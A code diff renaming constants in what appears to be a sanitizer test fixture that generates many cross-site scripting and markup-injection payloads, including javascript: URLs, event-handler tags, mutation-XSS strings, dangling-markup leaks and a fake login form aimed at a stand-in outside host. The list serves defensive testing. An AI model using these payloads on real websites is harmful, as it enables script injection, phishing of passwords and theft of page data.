@@ -1,46 +1,46 @@
-export const CODE = 'globalThis.hacked=1'
-export const ELSEWHERE = 'https://elsewhere.example'
+export const attackCode = 'globalThis.hacked=1'
+export const elsewhere = 'https://elsewhere.example'
 
 /** Elements that run or load something, in spellings that careless filters let through. */
 export function xssMarkup(): string[] {
   const elements = [
-    `<script>${CODE}</script>`,
-    `<script src="${ELSEWHERE}/a.js"></script>`,
-    `<script type="module">import "${ELSEWHERE}/b.js"</script>`,
-    `<svg><script>${CODE}</script></svg>`,
-    `<svg><script href="${ELSEWHERE}/c.js"/></svg>`,
+    `<script>${attackCode}</script>`,
+    `<script src="${elsewhere}/a.js"></script>`,
+    `<script type="module">import "${elsewhere}/b.js"</script>`,
+    `<svg><script>${attackCode}</script></svg>`,
+    `<svg><script href="${elsewhere}/c.js"/></svg>`,
     `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
     `<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>`,
     `<iframe src="javascript:parent.hacked=1"></iframe>`,
     `<object data="data:text/html,<script>parent.hacked=1</script>"></object>`,
-    `<embed src="${ELSEWHERE}/d.swf">`,
-    `<base href="${ELSEWHERE}/">`,
-    `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/e">`,
-    `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
-    `<link rel="stylesheet" href="${ELSEWHERE}/f.css">`,
-    `<link rel="preload" as="image" href="${ELSEWHERE}/g">`,
-    `<style>@import "${ELSEWHERE}/h.css"</style>`,
-    `<style>*{background:url(${ELSEWHERE}/i)}</style>`,
-    `<p style="background:url(${ELSEWHERE}/j)">a</p>`,
+    `<embed src="${elsewhere}/d.swf">`,
+    `<base href="${elsewhere}/">`,
+    `<meta http-equiv="refresh" content="0;url=${elsewhere}/e">`,
+    `<meta http-equiv="refresh" content="0;url=javascript:${attackCode}">`,
+    `<link rel="stylesheet" href="${elsewhere}/f.css">`,
+    `<link rel="preload" as="image" href="${elsewhere}/g">`,
+    `<style>@import "${elsewhere}/h.css"</style>`,
+    `<style>*{background:url(${elsewhere}/i)}</style>`,
+    `<p style="background:url(${elsewhere}/j)">a</p>`,
     `<div style="position:fixed;inset:0;z-index:9999999999">covered</div>`,
-    `<form action="${ELSEWHERE}/k"><input name="password"><button>Log in</button></form>`,
-    `<form id="a"></form><button form="a" formaction="javascript:${CODE}">b</button>`,
-    `<isindex action="javascript:${CODE}" type="submit">`,
-    `<a href="javascript:${CODE}">a</a>`,
-    `<a href="${ELSEWHERE}" ping="${ELSEWHERE}/l">a</a>`,
-    `<math><maction actiontype="statusline" xlink:href="javascript:${CODE}">a</maction></math>`,
-    `<svg><a xlink:href="javascript:${CODE}"><text>a</text></a></svg>`,
-    `<svg><animate attributeName="href" values="javascript:${CODE}"/></svg>`,
-    `<svg><use href="data:image/svg+xml,<svg id='a' onload='${CODE}'/>#a"/></svg>`,
-    `<svg><image href="${ELSEWHERE}/m"/></svg>`,
-    `<video poster="${ELSEWHERE}/n"></video>`,
-    `<table background="${ELSEWHERE}/o"><tr><td>a</td></tr></table>`,
-    `<template shadowrootmode="open"><script>${CODE}</script></template>`,
-    `<chatbot-widget server="${ELSEWHERE}" open></chatbot-widget>`,
+    `<form action="${elsewhere}/k"><input name="password"><button>Log in</button></form>`,
+    `<form id="a"></form><button form="a" formaction="javascript:${attackCode}">b</button>`,
+    `<isindex action="javascript:${attackCode}" type="submit">`,
+    `<a href="javascript:${attackCode}">a</a>`,
+    `<a href="${elsewhere}" ping="${elsewhere}/l">a</a>`,
+    `<math><maction actiontype="statusline" xlink:href="javascript:${attackCode}">a</maction></math>`,
+    `<svg><a xlink:href="javascript:${attackCode}"><text>a</text></a></svg>`,
+    `<svg><animate attributeName="href" values="javascript:${attackCode}"/></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id='a' onload='${attackCode}'/>#a"/></svg>`,
+    `<svg><image href="${elsewhere}/m"/></svg>`,
+    `<video poster="${elsewhere}/n"></video>`,
+    `<table background="${elsewhere}/o"><tr><td>a</td></tr></table>`,
+    `<template shadowrootmode="open"><script>${attackCode}</script></template>`,
+    `<chatbot-widget server="${elsewhere}" open></chatbot-widget>`,
     ...handlers(),
     ...misparsed(),
   ]
-  const runs = `<img src=x onerror="${CODE}">`
+  const runs = `<img src=x onerror="${attackCode}">`
   return [
     ...elements,
     ...elements.map((element) => element.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())),
@@ -60,8 +60,8 @@ export function xssMarkup(): string[] {
     runs.replace('<', '%3C').replace('>', '%3E'),
     runs.replace('<', '\uff1c').replace('>', '\uff1e'),
     runs.replace('<', '<<'),
-    `&lt;script&gt;${CODE}&lt;/script&gt;`,
-    `<scr<script>ipt>${CODE}</scr</script>ipt>`,
+    `&lt;script&gt;${attackCode}&lt;/script&gt;`,
+    `<scr<script>ipt>${attackCode}</scr</script>ipt>`,
   ]
 }
 
@@ -99,12 +99,12 @@ function handlers(): string[] {
     'div contenteditable onbeforeinput',
     'div popover onbeforetoggle',
   ]
-  return elements.map((element) => `<${element}="${CODE}">`)
+  return elements.map((element) => `<${element}="${attackCode}">`)
 }
 
 /** Texts that become something else when they are parsed a second time. */
 function misparsed(): string[] {
-  const image = `<img src=x onerror=${CODE}>`
+  const image = `<img src=x onerror=${attackCode}>`
   return [
     `<noscript><p title="</noscript>${image}">`,
     `<svg></p><style><a id="</style>${image}">`,
@@ -116,10 +116,10 @@ function misparsed(): string[] {
     `<title></title>${image}</title>`,
     `<xmp></xmp>${image}</xmp>`,
     `<plaintext>${image}`,
-    `<?xml-stylesheet href="javascript:${CODE}"?>`,
-    `<a href="${ELSEWHERE}/?a=`,
-    `<img src='${ELSEWHERE}/?a=`,
-    `<button form=x formaction='${ELSEWHERE}/?a=`,
+    `<?xml-stylesheet href="javascript:${attackCode}"?>`,
+    `<a href="${elsewhere}/?a=`,
+    `<img src='${elsewhere}/?a=`,
+    `<button form=x formaction='${elsewhere}/?a=`,
     `<textarea name="a">`,
     `<option>`,
   ]
